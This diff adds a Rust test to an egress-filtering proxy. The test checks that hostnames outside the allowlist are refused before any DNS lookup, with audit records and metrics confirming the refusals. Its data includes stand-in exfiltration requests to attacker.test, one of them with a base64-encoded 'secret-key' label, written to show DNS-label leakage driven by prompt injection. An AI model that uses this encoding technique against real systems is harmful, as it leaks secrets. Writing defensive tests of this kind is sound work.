@@ -645,3 +645,59 @@ fn sigterm_stops_accepting_and_exits_within_the_grace_period() {
     assert!(st.is_some_and(|s| s.success()), "exit status {st:?}");
     assert!(TcpStream::connect(proxy.addr).is_err(), "still accepting");
 }
+
+/// A refused name never reaches DNS: looking it up would hand the name (and
+/// whatever a prompt injection encoded into its labels) to the zone's
+/// servers even though the connection is then denied. The allowed name
+/// proves the DNS server is really in the path.
+#[test]
+fn denied_name_is_never_looked_up_in_dns() {
+    let dns = CountingDns::start();
+    let up = CountingUpstream::start("127.0.0.1:0");
+    let server = dns.addr.to_string();
+    let proxy = Proxy::spawn(&[
+        "--allow",
+        "allowed.test",
+        "--dns-server",
+        &server,
+        "--metrics-listen",
+        "127.0.0.1:0",
+    ]);
+    let port = up.addr.port();
+
+    let exfil = format!("c2VjcmV0LWtleQ.attacker.test:{port}");
+    let (_s, head) = connect_via(proxy.addr, &exfil);
+    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
+    assert!(head.contains("reason=not_in_allowlist"), "{head}");
+    // Plain HTTP with a denied absolute URI takes the same path.
+    let mut s = TcpStream::connect(proxy.addr).unwrap();
+    s.write_all(b"GET http://plain.attacker.test/x HTTP/1.1\r\nHost: plain.attacker.test\r\n\r\n")
+        .unwrap();
+    let head = read_head(&mut s);
+    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
+
+    let (mut ok, head) = connect_via(proxy.addr, &format!("allowed.test:{port}"));
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    ok.write_all(b"ping").unwrap();
+    drop(ok);
+
+    let recs = proxy.settled_audit(3);
+    let denied: Vec<_> = recs.iter().filter(|r| r["decision"] == "deny").collect();
+    assert_eq!(denied.len(), 2, "{recs:#?}");
+    for r in denied {
+        assert_eq!(r["reason"], "not_in_allowlist", "{r:#?}");
+        assert_eq!(r["dialled_ip"], "");
+    }
+    let asked = dns.asked();
+    assert!(
+        asked.iter().all(|n| n == "allowed.test"),
+        "a denied name reached DNS: {asked:?}"
+    );
+    assert!(!asked.is_empty(), "the allowed name was not looked up");
+    let m = proxy.metrics.expect("metrics addr");
+    let (_, m, _) = curl(&[&format!("http://{m}/metrics")]);
+    assert!(
+        m.contains("secureops_proxy_refused_before_lookup_total 2"),
+        "{m}"
+    );
+}
